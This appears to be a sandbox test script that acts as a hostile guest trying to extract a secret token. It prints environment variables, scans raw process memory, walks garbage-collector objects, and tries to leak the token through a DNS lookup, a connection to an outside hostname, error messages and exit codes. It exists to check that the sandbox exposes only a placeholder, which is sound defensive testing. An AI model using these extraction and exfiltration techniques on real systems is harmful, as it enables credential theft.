# tries: find the value of a secret: in the environment, in memory, in errors, in the report
# holds: the guest has a placeholder and nothing else
# world: network
# expect: {"exitCode": 0, "stdoutIncludes": "held: a placeholder"}
# requests: []
import ctypes
import gc
import os
import socket
import sys

from attempts import ROOT, claim, outcome

token = os.environ['TOKEN']
print(token, os.environ['OTHER_TOKEN'], dict(os.environ), os.environb, os.popen if hasattr(os, 'popen') else None)
claim('a placeholder', token.startswith('vitrine-secret-TOKEN-'))
for at in range(0, 31_000_000, 1_000_000):
    try:
        text = ctypes.string_at(at or 8, 1_000_000)
    except BaseException:
        break
    for mark in (b'S3CR3T' + b'-', b'OTH3R' + b'-S3'):
        place = text.find(mark)
        while place >= 0:
            print('found', text[place:place + 40])
            place = text.find(mark, place + 1)
for thing in gc.get_objects():
    if isinstance(thing, dict) and 'TOKEN' in thing:
        print(thing.get('TOKEN'))
for way in (lambda: socket.getaddrinfo(token, 80), lambda: open(token), lambda: socket.create_connection((f'{token}.example.org', 80)), lambda: sys.exit(token)):
    try:
        way()
    except BaseException as error:
        print(error)
